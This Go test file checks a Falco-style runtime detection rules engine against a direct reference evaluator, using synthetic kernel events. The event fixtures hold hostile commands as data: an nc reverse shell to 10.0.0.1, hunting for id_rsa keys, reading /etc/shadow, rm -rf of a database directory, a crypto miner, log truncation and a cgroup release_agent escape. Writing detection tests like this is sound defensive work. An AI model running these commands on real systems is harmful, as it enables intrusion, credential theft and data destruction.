package rules_test

import (
	"net/netip"
	"path"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/riposte-sec/riposte/rules"
	"github.com/riposte-sec/riposte/rules/condition"
	"github.com/riposte-sec/riposte/rules/fields"
	"github.com/riposte-sec/riposte/rules/rulestest"
)

// refEval evaluates a resolved condition tree directly, node by node, with
// none of the engine's sharing, caching or folding. It covers the operators
// and field types the upstream rulesets use.
func refEval(t *testing.T, n condition.Node, ev rules.Event) bool {
	switch n := n.(type) {
	case *condition.And:
		for _, c := range n.Children {
			if !refEval(t, c, ev) {
				return false
			}
		}
		return true
	case *condition.Or:
		for _, c := range n.Children {
			if refEval(t, c, ev) {
				return true
			}
		}
		return false
	case *condition.Not:
		return !refEval(t, n.Child, ev)
	case *condition.Check:
		f := n.Left.(*condition.Field)
		ref, err := fields.Resolve(f.Name, f.Arg, f.HasArg)
		if err != nil {
			t.Fatalf("resolve %s: %v", f.Name, err)
		}
		vals := fields.Values(ev, ref, nil)
		if n.Op == "exists" {
			return len(vals) > 0
		}
		var lits []string
		switch r := n.Right.(type) {
		case *condition.Literal:
			lits = []string{r.Text}
		case *condition.List:
			for _, it := range r.Items {
				lits = append(lits, it.Text)
			}
		default:
			t.Fatalf("reference evaluator: unsupported right side %s", n.Right)
		}
		for i := range vals {
			if refTest(t, ref.Type, n.Op, &vals[i], lits) {
				return true
			}
		}
		return false
	}
	t.Fatalf("reference evaluator: unsupported node %s", n)
	return false
}

func refTest(t *testing.T, typ fields.Type, op string, v *fields.Value, lits []string) bool {
	switch {
	case typ == fields.TypeBool:
		b := lits[0] == "true"
		if op == "!=" {
			return v.Bool != b
		}
		for _, l := range lits {
			if v.Bool == (l == "true") {
				return true
			}
		}
		return false
	case typ == fields.TypeIPAddr || typ == fields.TypeIPNet:
		in := false
		for _, l := range lits {
			p, err := netip.ParsePrefix(l)
			if err != nil {
				a := netip.MustParseAddr(l)
				p = netip.PrefixFrom(a, a.BitLen())
			}
			if p.Masked().Contains(v.Addr) {
				in = true
			}
		}
		return in != (op == "!=")
	case typ.Numeric():
		for _, l := range lits {
			x, err := strconv.ParseInt(l, 0, 64)
			if err != nil {
				t.Fatalf("number %q: %v", l, err)
			}
			ok := false
			switch op {
			case "=", "==", "in", "intersects":
				ok = v.Num == x
			case "!=":
				ok = v.Num != x
			case "<":
				ok = v.Num < x
			case "<=":
				ok = v.Num <= x
			case ">":
				ok = v.Num > x
			case ">=":
				ok = v.Num >= x
			default:
				t.Fatalf("numeric operator %s", op)
			}
			if ok {
				return true
			}
		}
		return false
	case typ == fields.TypeBytes:
		return false
	}
	s := v.Str
	for _, l := range lits {
		ok := false
		switch op {
		case "=", "==", "in", "intersects":
			ok = s == l
		case "!=":
			ok = s != l
		case "contains":
			ok = strings.Contains(s, l)
		case "icontains":
			ok = strings.Contains(strings.ToLower(s), strings.ToLower(l))
		case "startswith":
			ok = strings.HasPrefix(s, l)
		case "endswith":
			ok = strings.HasSuffix(s, l)
		case "glob":
			ok, _ = path.Match(l, s)
			if strings.Contains(l, "*") && !ok {
				// path.Match stops '*' at '/', fnmatch does not.
				re := regexp.QuoteMeta(l)
				re = strings.ReplaceAll(re, `\*`, ".*")
				re = strings.ReplaceAll(re, `\?`, ".")
				ok = regexp.MustCompile("^" + re + "$").MatchString(s)
			}
		case "pmatch":
			ok = s == l || strings.HasPrefix(s, strings.TrimSuffix(l, "/")+"/")
		case "regex":
			ok = regexp.MustCompile("^(?:" + l + ")$").MatchString(s)
		default:
			t.Fatalf("string operator %s", op)
		}
		if ok {
			return true
		}
	}
	return false
}

// TestEngineMatchesReference compares the engine's matches on a varied set
// of events with a direct evaluation of every rule's compiled condition.
func TestEngineMatchesReference(t *testing.T) {
	eng, _, err := rules.Load(rules.Options{Matching: rules.MatchAll},
		corpusFiles(t, "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")...)
	if err != nil {
		t.Fatal(err)
	}
	events := benchEvents()
	shell := func(kv ...any) rules.Event {
		base := []any{
			"proc.name", "bash", "proc.exe", "/bin/bash", "proc.exepath", "/usr/bin/bash", "proc.args", "-c id",
			"proc.cmdline", "bash -c id", "proc.pname", "runc", "proc.tty", 34816, "container.id", "3ad7c5f1e8b2",
			"user.name", "root", "user.uid", 0, "proc.cwd", "/", "evt.res", "SUCCESS", "evt.rawres", 0,
			"proc.aname", []string{"runc", "containerd-shim", "systemd"}, "proc.pcmdline", "runc init",
			"container.image.repository", "docker.io/library/alpine", "user.loginuid", -1,
		}
		return rulestest.New("execve", append(base, kv...)...)
	}
	events = append(events,
		shell(),
		shell("proc.name", "nc", "proc.cmdline", "nc -e /bin/sh 10.0.0.1 4444", "proc.args", "-e /bin/sh 10.0.0.1 4444"),
		shell("proc.name", "find", "proc.cmdline", "find / -name id_rsa", "proc.args", "/ -name id_rsa", "proc.tty", 0),
		shell("proc.exe", "/dev/shm/x", "proc.name", "x"),
		shell("proc.is_exe_from_memfd", true, "proc.pname", "python3"),
		shell("proc.is_exe_upper_layer", true, "proc.name", "xmrig", "proc.exepath", "/tmp/xmrig"),
		shell("proc.name", "rm", "proc.cmdline", "rm -rf /var/lib/mysql", "proc.args", "-rf /var/lib/mysql"),
		shell("proc.name", "debugfs", "container.privileged", true),
		rulestest.New("openat", "evt.is_open_read", true, "evt.is_open_write", false, "fd.typechar", "f", "fd.num", 3,
			"fd.name", "/etc/shadow", "fd.directory", "/etc", "fd.filename", "shadow", "proc.name", "cat",
			"proc.pname", "bash", "container.id", "host", "proc.cmdline", "cat /etc/shadow", "evt.res", "SUCCESS"),
		rulestest.New("openat", "evt.is_open_write", true, "evt.is_open_read", false, "fd.typechar", "f", "fd.num", 4,
			"fd.name", "/var/log/auth.log", "fd.directory", "/var/log", "fd.filename", "auth.log", "evt.arg.flags", "O_WRONLY|O_TRUNC",
			"proc.name", "bash", "container.id", "host"),
		rulestest.New("openat", "evt.is_open_write", true, "fd.typechar", "f", "fd.num", 4, "fd.name", "/sys/fs/cgroup/x/release_agent",
			"container.id", "abc", "user.uid", 0, "thread.cap_effective", "CAP_SYS_ADMIN CAP_DAC_OVERRIDE"),
		rulestest.New("ptrace", "evt.arg.request", "PTRACE_ATTACH", "proc.name", "gdb", "container.id", "host"),
		rulestest.New("symlinkat", "evt.arg.target", "/etc/shadow", "evt.arg.linkpath", "/tmp/x", "proc.name", "ln"),
		rulestest.New("socket", "evt.arg.domain", "AF_PACKET", "container.id", "abc", "proc.name", "tcpdump"),
	)
	checked, matched := 0, 0
	for i, ev := range events {
		got := map[string]bool{}
		for _, r := range eng.Match(ev, nil) {
			got[r.Name] = true
		}
		for _, r := range eng.Rules() {
			if !r.Enabled || !r.EventTypes.Has(ev.Type()) {
				continue
			}
			ast, err := condition.Parse(r.Compiled, condition.RuleMaxDepth)
			if err != nil {
				t.Fatalf("%s: canonical form does not parse: %v", r.Name, err)
			}
			want := refEval(t, ast, ev)
			if want {
				matched++
			}
			if got[r.Name] != want {
				t.Errorf("event %d (%s): rule %q matched=%v, reference says %v", i, ev.Type(), r.Name, got[r.Name], want)
			}
			checked++
		}
	}
	t.Logf("%d rule evaluations compared, %d of them matches", checked, matched)
	if matched < 10 {
		t.Errorf("only %d matches among the events; the comparison needs events that fire rules", matched)
	}
}
